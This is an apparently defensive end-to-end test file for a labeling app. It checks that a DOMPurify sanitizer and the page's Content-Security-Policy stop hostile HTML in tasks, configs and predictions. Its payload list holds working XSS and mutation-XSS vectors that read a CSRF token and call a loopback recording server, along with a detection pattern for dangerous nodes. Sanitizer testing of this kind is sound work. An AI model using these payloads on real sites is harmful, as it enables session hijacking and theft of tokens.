"""Hostile task data can't run script in our pages (issue 13), in Debian's headless Chromium.

A project whose HyperText task (in an iframe, the editor's default, and inline), label config
and prediction carry a battery of XSS payloads is opened in our labeling page. Each payload
that ran would leave a mark three ways: `top.__pwned` gets its name, it fetches
/api/ui/session?pwned=<name> (the CSRF token) from our server, and it calls a throwaway
recording HTTP server on another loopback port. The test checks that no mark was left, that
nothing navigated, and that the safe part of the HTML still shows.

PAYLOADS is meant to be reused by the real-window test (tests/e2e/test_window.py).
"""

import http.server
import threading
import time
from urllib.parse import quote, urlsplit

import pytest

from uihelp import browser, fetch_on_loopback, ui  # noqa: F401 - fixtures

pytestmark = pytest.mark.timeout(180)

SAFE_TEXT = "The quick brown fox stays visible"


def mark(name, recorder):
    """JavaScript that leaves every mark a payload can leave (each on its own: in a frame of
    another origin, top.__pwned throws and the recorder still gets its call)."""
    return (f"try{{top.__pwned=(top.__pwned||[]).concat('{name}')}}catch(e){{}};"
            f"fetch('/api/ui/session?pwned={name}');"
            f"fetch('http://127.0.0.1:{recorder}/hit/{name}');")


def echo_url(js):
    """The same-origin URL that used to echo `js` back as text/plain (the attack of issue 13)."""
    config = ('<!-- {"data": {"x": "%s"}} --><View><HyperText name="h" value="$x"/></View>'
              % js.replace("'", "\\u0027").replace('"', '\\"'))
    return "/api/import-example-file?raw=1&q=txt&label_config=" + quote(config, safe="")


def payloads(recorder):
    """(name, HTML): each tries to run mark(name) or to reach the recorder."""
    rec = f"http://127.0.0.1:{recorder}/hit"
    return [
        ("svg-style-script-href",
         f'<svg><style>svg{{}}</style>'
         f'<script href="{echo_url(mark("svg-style-script-href", recorder))}"></script></svg>'),
        ("script-src-echo",
         f'<script src="{echo_url(mark("script-src-echo", recorder))}"></script>'),
        ("svg-script", f'<svg><script>{mark("svg-script", recorder)}</script></svg>'),
        ("script", f'<script>{mark("script", recorder)}</script>'),
        ("img-onerror", f'<img src="x-missing.png" onerror="{mark("img-onerror", recorder)}">'),
        ("svg-onload", f'<svg onload="{mark("svg-onload", recorder)}"></svg>'),
        ("iframe-srcdoc",
         f'<iframe srcdoc="<script>{mark("iframe-srcdoc", recorder)}</script>'
         f'<script src=&quot;{echo_url(mark("iframe-srcdoc-echo", recorder))}&quot;></script>'
         '"></iframe>'),
        ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={rec}/meta-refresh">'),
        ("javascript-link",
         f'<a id="js-link" href="javascript:{mark("javascript-link", recorder)}">'
         'a javascript: link</a>'),
        ("base-href", f'<base href="{rec}/base-href/"><img src="relative.png">'),
        ("form-action",
         f'<form id="evil-form" action="{rec}/form-action" method="post">'
         '<input name="a" value="b"><button id="evil-submit">Go</button></form>'),
        ("math-mglyph-style",
         '<math><mtext><table><mglyph><style>'
         f'<img src=x onerror="{mark("math-mglyph-style", recorder)}">'
         '</style></mglyph></table></mtext></math>'),
        ("svg-p-style",
         '<svg></p><style><a id="</style>'
         f'<img src=1 onerror={mark("svg-p-style", recorder)}>"></a></style></svg>'),
        ("noscript-title",
         '<noscript><p title="</noscript>'
         f'<img src=x onerror={mark("noscript-title", recorder)}>"></p></noscript>'),
        ("math-textarea",
         '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
         f'<img onerror={mark("math-textarea", recorder)} src=1>">'
         '</path></textarea></mtext></svg></mglyph></mi></math>'),
        ("style-import", f'<style>@import url("{rec}/style-import");</style>'),
        ("style-attr-url", f'<div style="background-image:url({rec}/style-attr-url)">styled</div>'),
        ("link-stylesheet", f'<link rel="stylesheet" href="{rec}/link-stylesheet">'),
        ("object-echo",
         f'<object data="{echo_url(mark("object-echo", recorder))}" type="text/html"></object>'),
        ("embed-echo", f'<embed src="{echo_url(mark("embed-echo", recorder))}" type="text/html">'),
        ("svg-animate-href",
         '<svg><a>'
         f'<animate attributeName="href" values="javascript:{mark("svg-animate-href", recorder)}"/>'
         '<text x="20" y="20">animated</text></a></svg>'),
        ("svg-foreignobject",
         '<svg><foreignObject>'
         f'<iframe srcdoc="<script>{mark("svg-foreignobject", recorder)}</script>">'
         '</iframe></foreignObject></svg>'),
        ("data-url-iframe",
         f'<iframe src="data:text/html,<script>{mark("data-url-iframe", recorder)}</script>">'
         '</iframe>'),
    ]


# What may never be left in the DOM built from sanitized HTML (checked on the DOM, not on the
# text: a payload's words left over as harmless text are fine).
DANGEROUS_NODES = """(root) => {
  const bad = [];
  const tags = new Set(["script", "iframe", "frame", "object", "embed", "meta", "base", "link",
    "form", "input", "button", "foreignobject", "animate", "set", "animatemotion",
    "animatetransform", "use", "noscript", "template"]);
  for (const el of root.querySelectorAll("*")) {
    const tag = el.localName.toLowerCase();
    if (tags.has(tag)) bad.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.toLowerCase().replace(/\\s/g, "");
      if (name.startsWith("on") || name === "srcdoc" || name === "http-equiv")
        bad.push(`${tag}[${name}]`);
      if (/javascript:|vbscript:/.test(value)) bad.push(`${tag}[${name}=javascript:]`);
      if (value.startsWith("data:") && !(tag === "img" && name === "src"))
        bad.push(`${tag}[${name}=data:]`);
      if (name === "style" && /url\\(|@import/.test(value)) bad.push(`${tag}[style=url()]`);
    }
    if (tag === "style" && /url\\(|@import/i.test(el.textContent)) bad.push("<style> that loads");
  }
  return bad;
}"""

CONFIG = """<View>
  <Labels name="ner" toName="frame">
    <Label value="Fox"/>
    <Label value="&lt;img src=x onerror=&quot;{label_mark}&quot;&gt;"/>
  </Labels>
  <HyperText name="frame" value="$html"/>
  <HyperText name="inline" value="$html" inline="true"/>
  <Choices name="verdict" toName="frame">
    <Choice value="ok"
            html="&lt;b&gt;fine&lt;/b&gt;&lt;img src=x onerror=&quot;{choice_mark}&quot;&gt;"/>
  </Choices>
</View>"""


class Recorder(http.server.BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):  # noqa: N802 - the stdlib's name
        Recorder.hits.append(self.path)
        try:
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"recorded")
        except OSError:  # the page went away before the answer: the hit is recorded
            pass

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def recorder():
    Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def html_escape(text):
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


def hostile_project(api, recorder, leave_out=()):
    """A project and its one task, with every payload in the task, the config and a prediction."""
    config = CONFIG.format(label_mark=html_escape(mark("config-label", recorder)),
                           choice_mark=html_escape(mark("config-choice-html", recorder)))
    project = api.project(title="Hostile", label_config=config)
    body = "".join(f'<div class="payload" data-name="{name}">{html}</div>'
                   for name, html in payloads(recorder) if name not in leave_out)
    html = f'<p id="safe">{SAFE_TEXT}</p>{body}<p>end of the task</p>'
    prediction = {"model_version": "evil", "score": 0.5, "result": [{
        "from_name": "ner", "to_name": "frame", "type": "hypertextlabels",
        "value": {"start": "/p[1]/text()[1]", "end": "/p[1]/text()[1]", "startOffset": 4,
                  "endOffset": 9, "text": "quick",
                  "hypertextlabels": [
                      f'<img src=x onerror="{mark("prediction-label", recorder)}">']}}]}
    response = api.post(f"/api/projects/{project['id']}/import",
                        json=[{"data": {"html": html}, "predictions": [prediction]}])
    assert response.status_code == 201, response.text
    task = api.get(f"/api/projects/{project['id']}/tasks").json()[0]
    return project, task


def pwned(page):
    return page.evaluate("() => window.__pwned || null")


def serve_changed(ui, path, change):
    """Serve our file at `path` (any query string) through `change(response) -> (headers, body)`;
    returns the list of URLs so served, for the test to check its change was really used."""
    served = []

    def handle(route):
        original = fetch_on_loopback(route)
        headers, body = change(original)
        headers = {k: v for k, v in headers.items() if k.lower() != "content-length"}
        served.append(route.request.url)
        route.fulfill(response=original, headers=headers, body=body)

    ui.context.route(lambda url: urlsplit(url).path == path, handle)
    return served


def without_sanitizer(ui):
    """Serve js/sanitize.js with DOMPurify taken out: window.LabelDeskSanitize still exists but
    returns the HTML as it came (were it missing, the patched editor would escape the HTML and
    so fail closed, and the test would prove nothing)."""
    def cut(original):
        source = original.text()
        return original.headers, source.replace(
            'return purify.sanitize(String(html ?? ""), CONFIG);', 'return String(html ?? "");')
    return serve_changed(ui, "/static/js/sanitize.js", cut)


def without_nosniff(ui):
    """Serve the echo route without `X-Content-Type-Options: nosniff`, so a <script src> at it
    is not refused for its text/plain type (Chromium runs text/plain as script without it)."""
    return serve_changed(ui, "/api/import-example-file", lambda original: (
        {k: v for k, v in original.headers.items() if k.lower() != "x-content-type-options"},
        original.body()))


def without_policy(ui):
    """Serve the app's page without its Content-Security-Policy (and without nosniff)."""
    drop = {"content-security-policy", "x-content-type-options"}
    return serve_changed(ui, "/desktop", lambda original: (
        {k: v for k, v in original.headers.items() if k.lower() not in drop}, original.body()))


def assert_sanitizer_out(ui, served):
    assert served, "the route never served the cut sanitize.js"
    assert ui.page.evaluate("() => window.LabelDeskSanitize('<b onclick=x>')") == \
        "<b onclick=x>", "DOMPurify is still in"


def policy_runs_inline_script(page):
    """Whether the page's policy lets an inline <script> run (page.evaluate itself is exempt)."""
    return page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.__inlineRan = true;";
        document.head.append(script);
        script.remove();
        return window.__inlineRan === true;
    }""")


def open_hostile_task(ui, recorder, leave_out=()):
    """Open the hostile task in the labeling page, click what a person might, wait a little."""
    page = ui.page
    # A document served by route.fulfill (without_policy) has no IP address, so Chromium's
    # Local Network Access check counts it as outside the machine and would stop requests to
    # the recorder (on loopback): not a protection of ours, so it is granted away, everywhere.
    ui.context.grant_permissions(["local-network-access"])
    # let requests to the recorder through (uihelp aborts anything off our server): a payload
    # that got past the page's policy would be recorded there
    ui.context.route(f"http://127.0.0.1:{recorder}/**", lambda route: route.continue_())
    project, task = hostile_project(ui.api, recorder, leave_out)
    ui.sign_in()
    ui.go(f"/projects/{project['id']}/label?task={task['id']}")
    page.wait_for_selector(".label-host .lsf-root")
    frame = page.wait_for_selector("iframe.lsf-richtext__iframe").content_frame()
    frame.wait_for_selector("#safe")
    page.wait_for_selector(".lsf-richtext__container #safe")  # the inline one
    for target in (frame, page):
        for selector in ("#js-link", "#evil-submit", "a:has-text('animated')"):
            for element in target.query_selector_all(selector):
                try:
                    element.click(timeout=2000)
                except Exception:  # noqa: BLE001 - gone or covered: nothing to click
                    pass
    time.sleep(2)  # time for a refresh, a timer, a slow echo
    return project, frame


def assert_no_mark(ui, recorder):
    assert pwned(ui.page) is None
    assert Recorder.hits == []
    assert not [url for url in ui.requests if "pwned=" in url], "a payload read the CSRF token"
    assert not [url for url in ui.requests if f":{recorder}/" in url]


def test_hostile_hypertext_runs_nothing(ui, recorder):  # noqa: F811 - fixture
    page = ui.page
    project, frame = open_hostile_task(ui, recorder)
    assert_no_mark(ui, recorder)
    assert not [url for url in ui.requests if "import-example-file" in url], \
        "a payload loaded the echo route"
    # nothing navigated: the app, the task's iframe and no new frame elsewhere
    assert page.url.startswith(ui.live.ui_url + "/desktop#/")
    assert f"/projects/{project['id']}/label" in page.url
    assert all(f.url in ("about:srcdoc", "about:blank") or f.url.startswith(ui.live.ui_url)
               for f in page.frames), [f.url for f in page.frames]
    assert len(ui.context.pages) == 1
    # the safe part renders, in the iframe and inline, and the task is still labelable
    assert SAFE_TEXT in frame.inner_text("body")
    assert SAFE_TEXT in page.inner_text(".lsf-richtext__container")
    assert "end of the task" in frame.inner_text("body")
    assert page.locator(".lsf-choice", has_text="fine").count() >= 1
    assert frame.evaluate(f"({DANGEROUS_NODES})(document)") == []
    assert page.evaluate(f"({DANGEROUS_NODES})(document.querySelector('.lsf-richtext__container'))"
                         ) == []
    assert not ui.errors, ui.errors


def test_policy_alone_stops_the_payloads(ui, recorder):  # noqa: F811 - fixture
    """Defence in depth: with DOMPurify taken out (and nosniff off the echo route), the page's
    CSP alone (script paths, no inline script, base-uri, object-src, form-action, connect-src)
    stops every script payload. Not the <meta http-equiv=refresh> one: inserted in the page, it
    navigates the whole app away, which no CSP directive stops; only the sanitizer does (so it
    is left out here)."""
    sanitizer = without_sanitizer(ui)
    without_nosniff(ui)
    open_hostile_task(ui, recorder, leave_out=("meta-refresh",))
    assert_sanitizer_out(ui, sanitizer)
    assert not policy_runs_inline_script(ui.page), "the page has no policy?"
    assert_no_mark(ui, recorder)
    assert ui.page.url.startswith(ui.live.ui_url + "/desktop#/")


def marks(ui):
    """Which payloads left a mark, by the way they left it."""
    return {"pwned": set(pwned(ui.page) or ()),
            "token": {url.split("pwned=", 1)[1] for url in ui.requests if "pwned=" in url},
            "recorder": {path.split("/")[2] for path in Recorder.hits if path.startswith("/hit/")}}


# What the control (below) sees in Chromium once nothing of ours stops the payloads.
# Each of these leaves all three marks: <script> and <script src> only in the task's iframe
# (a srcdoc document; React's innerHTML never runs a <script>, so the inline copy runs only
# the handlers); the echo ones only once nosniff is off too.
RUN_WHEN_UNPROTECTED = ("img-onerror", "svg-onload", "script", "svg-script", "iframe-srcdoc",
                        "svg-foreignobject", "noscript-title", "svg-p-style", "math-textarea",
                        "script-src-echo", "svg-style-script-href", "iframe-srcdoc-echo",
                        "config-choice-html")
# Only the recorder sees these: CSS loads, and a data: frame (its own origin: no top.__pwned,
# no cookie for the token).
LOADED_WHEN_UNPROTECTED = ("style-import", "style-attr-url", "link-stylesheet", "data-url-iframe")
# Left no mark even unprotected, for reasons that are not ours to prove here: javascript-link
# (the editor cancels every click on a link in the task's iframe), object-echo and embed-echo
# (the route answers with a download, which a frame doesn't render), config-label and
# prediction-label (the patched bundle shows a label as text). svg-animate-href sets
# top.__pwned when its link is clicked, but its fetches never leave, so it is checked there only.


def test_harness_sees_a_payload_when_every_protection_is_off(ui, recorder):  # noqa: F811
    """The negative control of the tests above: with DOMPurify out and the page's CSP and
    nosniff dropped, the same task leaves marks all three ways, so their "no mark" means
    something. Left out: what navigates the app away (meta refresh; the form, submitted by the
    click) or re-points its every URL (<base>), which would wipe or misroute the marks."""
    sanitizer = without_sanitizer(ui)
    page = without_policy(ui)
    without_nosniff(ui)
    open_hostile_task(ui, recorder, leave_out=("meta-refresh", "form-action", "base-href"))
    assert page, "the route never served the page without its policy"
    assert_sanitizer_out(ui, sanitizer)
    assert policy_runs_inline_script(ui.page)
    found = marks(ui)
    for how, names in found.items():
        assert set(RUN_WHEN_UNPROTECTED) <= names, (how, sorted(names))
    assert set(LOADED_WHEN_UNPROTECTED) <= found["recorder"], sorted(found["recorder"])
    assert "svg-animate-href" in found["pwned"], sorted(found["pwned"])


def test_sanitizer_drops_every_payload(ui, recorder):  # noqa: F811 - fixture
    """DOMPurify alone (window.LabelDeskSanitize, what the editor's sanitizer now calls), on
    each payload: nothing that can run, load or navigate survives; plain HTML does."""
    page = ui.page
    ui.sign_in()
    page.evaluate("() => import('/static/js/sanitize.js').then((m) => m.installSanitizer())")
    for name, html in payloads(recorder):
        left = page.evaluate(f"""(html) => {{
            const box = document.createElement("template");
            box.innerHTML = window.LabelDeskSanitize(html);
            return ({DANGEROUS_NODES})(box.content);
        }}""", html)
        assert left == [], (name, left)
    kept = page.evaluate("(h) => window.LabelDeskSanitize(h)",
                         '<style>p { color: red }</style><p class="x" title="t"><b>bold</b> '
                         '<a href="https://example.org/">link</a> <img src="/static/img/icon.svg" '
                         'alt="i"></p><svg width="10"><circle r="4"/></svg>')
    assert '<style data-task-style="">@scope {\np { color: red; }\n}' in kept  # test_task_html_box
    assert "<b>bold</b>" in kept
    assert 'href="https://example.org/"' in kept and 'rel="noopener noreferrer"' in kept
    assert "<img" in kept and "<circle" in kept
    # the sanitizer can't be swapped out by page script
    assert page.evaluate("() => { try { window.LabelDeskSanitize = (x) => x; } catch (e) {}"
                         " return window.LabelDeskSanitize('<img src=x onerror=alert(1)>'); }"
                         ) == '<img src="x">'


def test_editor_bundle_calls_our_sanitizer(live):
    """The editor's own sanitizer hands every HTML string to ours, and fails closed (the text,
    escaped) if ours never loaded; a label's text is measured as text (desktop/ui/editor.py)."""
    source = live.anonymous.get("/static/editor/main.js").text
    assert "window.LabelDeskSanitize?window.LabelDeskSanitize(String(e)):String(e).replace(" \
        in source
    assert "n.textContent=e,t.appendChild(n)" in source
    assert "n.innerHTML=e,t.appendChild(n)" not in source
